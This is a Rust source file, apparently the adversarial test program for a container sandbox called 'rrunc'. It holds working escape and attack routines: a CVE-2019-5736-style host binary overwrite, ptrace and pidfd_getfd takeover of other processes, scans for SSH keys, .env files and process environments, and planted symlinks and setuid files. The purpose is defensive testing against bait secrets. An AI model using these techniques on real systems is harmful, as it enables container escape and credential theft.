//! The program inside, which is hostile: it carries out the orders it finds in a file, and tells what it has got hold of.
//! It is this binary, which is static and has one thread.
use crate::bait::{OVERWRITTEN, SECRET};
use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, renameat2};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, unshare};
use nix::sys::ptrace;
use nix::sys::signal::{SigHandler, Signal, kill, signal};
use nix::unistd::{ForkResult, Pid, fork, getpid, getppid, setsid};
use std::collections::HashSet;
use std::fs::{self, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::thread::sleep;
use std::time::{Duration, Instant};

/// In the working directory: what it is told, line by line, and how many lines it has begun.
pub const ORDERS: &str = "orders";
/// See [`ORDERS`].
pub const BEGUN: &str = "begun";
/// Said when it is there.
pub const UP: &str = "UP\n";
/// What begins a line about something read: the time in milliseconds, where, and the text follow.
pub const LOOT: &str = "LOOT ";

/// How long a deed that is a race goes on.
const RACE: Duration = Duration::from_millis(250);
/// Nobody has to end it.
const LIFE: Duration = Duration::from_secs(100);

/// `inside NAMESPACE DIR [DEED…]`: one deed, or all that are ordered. `NAMESPACE` is the host's pid namespace, in which it
/// does nothing: its signals are for everybody.
pub fn main(arguments: &[String]) {
    let [namespace, dir, deed @ ..] = arguments else { panic!("inside NAMESPACE DIR [DEED...]") };
    let own = fs::read_link("/proc/self/ns/pid").map(|link| link.display().to_string());
    assert!(own.as_ref().is_ok_and(|own| own != namespace), "{own:?}: not inside");
    // SAFETY: ignoring a signal runs no code of ours.
    unsafe { signal(Signal::SIGCHLD, SigHandler::SigIgn) }.expect("ignore SIGCHLD");
    let dir = Path::new(dir);
    if !deed.is_empty() {
        act(&deed.join(" "), dir);
        return;
    }
    ignored(std::io::stdout().write_all(UP.as_bytes()));
    let (begin, mut done) = (Instant::now(), 0);
    while begin.elapsed() < LIFE {
        let orders = fs::read_to_string(ORDERS).unwrap_or_default();
        let whole = orders.rfind('\n').map_or("", |end| &orders[..end]);
        for order in whole.lines().skip(done) {
            done += 1;
            act(order, dir);
            ignored(fs::write(BEGUN, done.to_string()));
        }
        sleep(Duration::from_millis(1));
    }
}

/// Most of what is tried fails, and is meant to.
fn ignored<T, E>(_: Result<T, E>) {}

fn act(order: &str, dir: &Path) {
    let mut words = order.split(' ');
    match words.next().unwrap_or_default() {
        "nest" => nest(&words.collect::<Vec<_>>().join(" ")),
        "mounts" => aside(|| change_mounts(dir)),
        "stop-others" => aside(|| race(|| others(|pid| ignored(kill(pid, Signal::SIGSTOP))))),
        "trace-others" => aside(trace_others),
        "watch-programs" => aside(watch_programs),
        // Not aside: it is done before the next begins.
        "look" => spy(dir),
        "spy" => aside(|| race(|| spy(dir))),
        "overwrite" => aside(|| overwrite(dir)),
        "steal" => aside(|| race(|| steal(dir))),
        "close" => {
            // SAFETY: nothing of this program's own is open.
            unsafe { libc::syscall(libc::SYS_close_range, 0, u32::MAX, 0) };
        }
        "daemon" => aside(daemon),
        "many" => (0..20).for_each(|_| aside(|| sleep(LIFE))),
        "rename" => rename_all(),
        "plant" => plant(dir),
        "swap-inside" => aside(|| race(|| swap("vol", "vol-swap"))),
        "chmod" => change_modes(),
        "name" => name(c"rrunc:[init]"),
        "dumpable" => ignored(nix::sys::prctl::set_dumpable(true)),
        "freeze" => freeze(),
        "flood" => ignored(std::io::stdout().write_all(&[b'x'; 200_000])),
        "stop-self" => ignored(nix::sys::signal::raise(Signal::SIGSTOP)),
        "exit" => std::process::exit(0),
        other => panic!("no deed {other}"),
    }
}

/// In a process of its own, so that the next order is heard.
fn aside(deed: impl FnOnce()) {
    // SAFETY: this program has one thread.
    if let Ok(ForkResult::Child) = unsafe { fork() } {
        deed();
        std::process::exit(0);
    }
}

fn race(mut deed: impl FnMut()) {
    let begin = Instant::now();
    while begin.elapsed() < RACE {
        deed();
    }
}

/// All processes here that are neither this one nor who made it.
fn others(mut deed: impl FnMut(Pid)) {
    for pid in processes() {
        if pid != getpid() && pid != getppid() {
            deed(pid);
        }
    }
}

fn processes() -> Vec<Pid> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let mut all: Vec<i32> = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect();
    // And who comes next.
    let last = all.iter().max().copied().unwrap_or(1);
    all.extend(last + 1..last + 6);
    all.into_iter().map(Pid::from_raw).collect()
}

/// Moves into a user namespace of its own with this map, which somebody beside it writes.
fn nest(map: &str) {
    let parent = getpid();
    let file = |name: &str| format!("/proc/{parent}/{name}");
    let own = fs::read_link(file("ns/user"));
    aside(|| {
        race(|| {
            if fs::read_link(file("ns/user")).ok() != own.as_ref().ok().cloned() {
                ignored(fs::write(file("setgroups"), "deny"));
                ignored(fs::write(file("uid_map"), map));
                ignored(fs::write(file("gid_map"), map));
            }
        });
    });
    ignored(unshare(CloneFlags::CLONE_NEWUSER));
    sleep(Duration::from_millis(5));
    ignored(nix::sys::prctl::set_dumpable(true));
}

/// As root of a user namespace of its own, if it may make one: takes away, changes and makes mounts, then looks again.
fn change_mounts(dir: &Path) {
    let (uid, gid) = (nix::unistd::getuid(), nix::unistd::getgid());
    let kept = fs::File::open(".");
    if unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).is_ok() {
        ignored(fs::write("/proc/self/setgroups", "deny"));
        ignored(fs::write("/proc/self/uid_map", format!("0 {uid} 1")));
        ignored(fs::write("/proc/self/gid_map", format!("0 {gid} 1")));
    }
    let none = None::<&str>;
    ignored(mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_SHARED, none));
    let table = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    for place in table.lines().rev().filter_map(|line| line.split(' ').nth(4)) {
        ignored(mount(none, place, none, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, none));
        ignored(umount2(place, MntFlags::MNT_DETACH));
    }
    ignored(mount(Some("tmpfs"), "/tmp", Some("tmpfs"), MsFlags::empty(), none));
    ignored(fs::create_dir("/tmp/m"));
    ignored(mount(Some("/"), "/tmp/m", none, MsFlags::MS_BIND, none));
    if std::env::set_current_dir("/tmp").is_ok() && nix::unistd::pivot_root(".", ".").is_ok() {
        ignored(umount2(".", MntFlags::MNT_DETACH));
    }
    if let Ok(kept) = kept {
        for (old, new) in [(".env", "moved"), (".git/config", ".git/moved")] {
            ignored(renameat2(&kept, old, &kept, new, RenameFlags::empty()));
        }
        ignored(nix::unistd::fchdir(&kept));
    }
    spy(dir);
    overwrite(dir);
}

fn trace_others() {
    let mut traced = Vec::new();
    race(|| {
        others(|pid| {
            if ptrace::seize(pid, ptrace::Options::empty()).is_ok() {
                ignored(ptrace::interrupt(pid));
                traced.push(pid);
            }
        });
    });
    // Their end is ours: what is traced now goes on.
}

/// CVE-2019-5736: holds every foreign program that shows up in /proc, and writes to it once nobody runs it.
fn watch_programs() {
    let inode = |path: &str| fs::metadata(path).map(|meta| (meta.dev(), meta.ino())).ok();
    let mut known: HashSet<_> = ["/proc/self/exe", "/bin/busybox", "/x"].into_iter().filter_map(inode).collect();
    let (begin, mut held) = (Instant::now(), Vec::new());
    while begin.elapsed() < LIFE / 10 {
        for pid in processes() {
            let Ok(file) = fs::File::open(format!("/proc/{pid}/exe")) else { continue };
            if file.metadata().is_ok_and(|meta| known.insert((meta.dev(), meta.ino()))) {
                held.push(file);
            }
        }
        held.retain(|file| {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let written = OpenOptions::new().append(true).open(path).and_then(|mut file| file.write_all(OVERWRITTEN));
            written.is_err_and(|error| error.raw_os_error() == Some(libc::ETXTBSY))
        });
    }
}

/// Every directory by which something of the host could be reached.
fn doors() -> Vec<PathBuf> {
    let mut doors = vec![PathBuf::from("/"), PathBuf::from(".")];
    for pid in processes() {
        let process = PathBuf::from(format!("/proc/{pid}"));
        doors.extend(["root", "cwd"].map(|name| process.join(name)));
        let open = fs::read_dir(process.join("fd")).into_iter().flatten().flatten();
        doors.extend(open.map(|entry| entry.path()));
    }
    doors
}

/// What may lie behind a door.
fn names(dir: &Path) -> Vec<PathBuf> {
    let outside = dir.strip_prefix("/").unwrap_or(dir);
    let of_host = ["outside/secret", "outside/sub/secret", "home/.ssh/id_ed25519", "rrunc", "bundle/config.json"];
    let here = ["secret", "id_ed25519", ".env", "conf/.env", "out/id_ed25519", "vault/secret", "moved", "moved/.env"];
    let all = of_host.iter().map(|name| outside.join(name)).chain(of_host.iter().map(PathBuf::from));
    all.chain(here.iter().map(PathBuf::from)).collect()
}

fn spy(dir: &Path) {
    for door in doors() {
        look(&door);
        for name in names(dir) {
            look(&door.join(name));
        }
    }
    for pid in processes() {
        look(Path::new(&format!("/proc/{pid}/environ")));
        look(Path::new(&format!("/proc/{pid}/cmdline")));
    }
}

fn look(path: &Path) {
    let careful = OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(path);
    let Ok(mut file) = careful else { return };
    let mut bytes = Vec::new();
    ignored((&mut file).take(65_536).read_to_end(&mut bytes));
    if let Some(at) = bytes.windows(SECRET.len()).position(|part| part == SECRET.as_bytes()) {
        let text: String = String::from_utf8_lossy(&bytes[at..]).chars().take_while(|c| *c != '\n').take(100).collect();
        // What was told already has the word in it, too.
        let told = path.ends_with("loot") || path.ends_with("fd/1");
        if !text.is_empty() && !told {
            let line = format!("{LOOT}{} {} {}\n", crate::bait::now(), path.display(), text.escape_debug());
            ignored(std::io::stdout().write_all(line.as_bytes()));
            let loot = OpenOptions::new().append(true).create(true).open("loot");
            ignored(loot.and_then(|mut loot| loot.write_all(line.as_bytes())));
        }
    }
}

/// Writes to what it finds behind each door, and puts something of its own beside it.
fn overwrite(dir: &Path) {
    let protected = [".git/config", ".git/hooks/pre-commit", ".envrc", ".vscode/settings.json"].map(PathBuf::from);
    for door in doors() {
        for name in names(dir).into_iter().chain(protected.clone()) {
            let path = door.join(name);
            let file = OpenOptions::new().append(true).custom_flags(libc::O_NONBLOCK).open(&path);
            ignored(file.and_then(|mut file| file.write_all(OVERWRITTEN)));
            if door.starts_with("/proc") {
                ignored(fs::set_permissions(&path, fs::Permissions::from_mode(0o777)));
                ignored(fs::remove_file(&path));
            }
        }
    }
    let outside = dir.join("outside/planted");
    ignored(fs::write(outside, OVERWRITTEN));
}

/// Takes the open files of every other process, and talks to whoever is at their other end.
fn steal(dir: &Path) {
    others(|pid| {
        // SAFETY: takes and returns plain numbers.
        let process = unsafe { libc::syscall(libc::SYS_pidfd_open, pid.as_raw(), 0) };
        if process < 0 {
            return;
        }
        // SAFETY: the kernel has just given it to us.
        let process = unsafe { OwnedFd::from_raw_fd(i32::try_from(process).expect("a descriptor")) };
        for number in 0..32 {
            // SAFETY: takes and returns plain numbers.
            let taken = unsafe { libc::syscall(libc::SYS_pidfd_getfd, process.as_raw_fd(), number, 0) };
            let Ok(taken) = i32::try_from(taken) else { continue };
            if taken < 0 {
                continue;
            }
            // SAFETY: the kernel has just given it to us.
            let taken = unsafe { OwnedFd::from_raw_fd(taken) };
            let door = PathBuf::from(format!("/proc/self/fd/{}", taken.as_raw_fd()));
            names(dir).iter().for_each(|name| look(&door.join(name)));
            // SAFETY: a constant of two bytes; the length is theirs.
            unsafe { libc::send(taken.as_raw_fd(), c"F{".as_ptr().cast(), 2, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL) };
        }
    });
}

/// Does all that a process can to outlive the container.
fn daemon() {
    ignored(setsid());
    // SAFETY: this program has one thread.
    if let Ok(ForkResult::Child) = unsafe { fork() } {
        for number in Signal::iterator() {
            // SAFETY: ignoring a signal runs no code of ours.
            ignored(unsafe { signal(number, SigHandler::SigIgn) });
        }
        ignored(nix::sys::prctl::set_pdeathsig(None));
        sleep(LIFE);
    }
}

fn rename_all() {
    for (old, new) in
        [(".git", "git2"), (".git/hooks", ".git/hooks2"), ("conf", "conf2"), (".env", "moved"), ("vault", "v2")]
    {
        ignored(fs::rename(old, new));
    }
}

/// What an earlier sandbox leaves to the next one, and to who uses the project.
fn plant(dir: &Path) {
    ignored(fs::remove_dir(".husky"));
    ignored(fs::remove_dir("out"));
    ignored(symlink(dir.join("home/.ssh"), "out"));
    ignored(symlink("/bin", ".husky"));
    ignored(fs::create_dir_all("lib/.git"));
    ignored(fs::write("lib/.git/HEAD", "ref: refs/heads/main\n"));
    ignored(fs::create_dir("app"));
    ignored(fs::write("app/.git", "gitdir: ../../home\n"));
    ignored(nix::unistd::mkfifo("fifo", nix::sys::stat::Mode::S_IRWXU));
    ignored(fs::create_dir("conf/deep"));
    ignored(fs::write(".rrunc.toml", "[allow]\nread = [\"~/.ssh\"]\n"));
}

fn swap(one: &str, other: &str) {
    ignored(fs::create_dir(one));
    ignored(symlink("/", other));
    ignored(renameat2(AT_FDCWD, one, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE));
}

fn change_modes() {
    let mode = |path: &str, mode: u32| ignored(fs::set_permissions(path, fs::Permissions::from_mode(mode)));
    ignored(fs::write("tool", "x"));
    for bits in [0o4755, 0o2755, 0o6755] {
        mode("tool", bits);
    }
    ignored(
        OpenOptions::new().write(true).create(true).mode(0o4755).custom_flags(OFlag::O_NOFOLLOW.bits()).open("born"),
    );
    mode("vault", 0);
    mode("tmp", 0);
}

fn name(name: &std::ffi::CStr) {
    ignored(nix::sys::prctl::set_name(name));
    for pid in processes() {
        ignored(fs::write(format!("/proc/{pid}/comm"), name.to_bytes()));
    }
}

/// Of its own cgroup, if that is shown and can be written.
fn freeze() {
    for (file, text) in [("pids.max", "1"), ("cgroup.subtree_control", "+pids"), ("cgroup.freeze", "1")] {
        ignored(fs::write(Path::new("/sys/fs/cgroup").join(file), text));
    }
    ignored::<(), Errno>(Ok(()));
}
